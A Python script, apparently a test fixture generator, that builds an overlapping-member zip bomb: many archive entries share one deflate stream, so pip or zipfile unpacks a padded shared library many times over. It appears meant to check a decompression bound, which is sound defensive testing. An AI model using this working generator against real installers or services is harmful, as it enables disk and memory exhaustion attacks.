#!/usr/bin/env python3
"""overlap_zip.py ZIP N KERNEL PAD_MB [stored]: writes a zip whose N members all share one deflate stream, the shape of
an overlapping-member zip bomb: each local header quotes the next one in an extra field (id 0x9999), so all
their data start at the same offset, and the central directory names all N, each at its own local header.
Every member is KERNEL's bytes followed by PAD_MB MiB of zeros (a real shared library stays a valid one), so
pip and zipfile read N full members out of one stream. "stored": the stream is the bytes as they are (method 0),
the shape a 1:1 bound must catch."""
import struct
import sys
import zlib

out, n, kernel, pad = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
content = open(kernel, 'rb').read() + b'\0' * (pad << 20)
stored = len(sys.argv) > 5 and sys.argv[5] == 'stored'
method = 0 if stored else 8
if stored:
    comp = content
else:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = c.compress(content) + c.flush()
crc = zlib.crc32(content)
names = [b'pkg/m%04d.so' % i for i in range(n)]


def local(name, extra):
    return struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, method, 0, 0, crc, len(comp), len(content), len(name),
                       len(extra)) + name + extra


heads = [b''] * n
for i in range(n - 1, -1, -1):  # from the last: each quotes the next
    extra = struct.pack('<HH', 0x9999, len(heads[i + 1])) + heads[i + 1] if i + 1 < n else b''
    heads[i] = local(names[i], extra)
offsets, at = [], 0
for i in range(n):
    offsets.append(at)
    at += 30 + len(names[i]) + 4
body = heads[0] + comp
cd = b''.join(struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, method, 0, 0, crc, len(comp), len(content),
                          len(nm), 0, 0, 0, 0, 0, offsets[i]) + nm for i, nm in enumerate(names))
end = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, n, n, len(cd), len(body), 0)
with open(out, 'wb') as f:
    f.write(body + cd + end)
